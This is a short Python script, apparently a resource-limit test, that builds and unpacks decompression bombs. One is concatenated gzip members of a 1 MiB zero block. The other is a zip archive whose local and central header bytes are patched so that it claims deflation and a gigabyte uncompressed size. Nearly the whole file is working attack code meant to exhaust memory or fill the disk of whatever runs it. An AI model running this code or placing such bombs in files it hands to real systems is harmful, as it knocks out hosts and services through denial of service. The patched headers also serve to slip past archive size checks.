"""Unpacks a small file that becomes a gigabyte in memory or on disk: gzip and zip.

Ends: Raised MemoryError or disk
"""

import gzip
import io
import struct
import zipfile
import zlib

BLOCK = 1 << 20


def repeated(times):
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * times + packer.flush()


def dice(a, b):
    stream = repeated(1 << 10)
    for unpack in (
        lambda: gzip.decompress(gzip.compress(bytes(BLOCK)) * 1024),
        lambda: zipfile.ZipFile(archive(stream)).extract("bomb"),
    ):
        try:
            return len(unpack())
        except (MemoryError, OSError):
            pass
    raise MemoryError


def archive(stream):
    """Store the stream as it is, and say afterwards that it was packed from a gigabyte."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as bomb:
        bomb.writestr("bomb", stream)
    data = file.getbuffer()
    listing = bytes(data).index(b"PK\x01\x02")
    data[8] = data[listing + 10] = zipfile.ZIP_DEFLATED
    data[listing + 24 : listing + 28] = struct.pack("<I", BLOCK << 10)
    return file
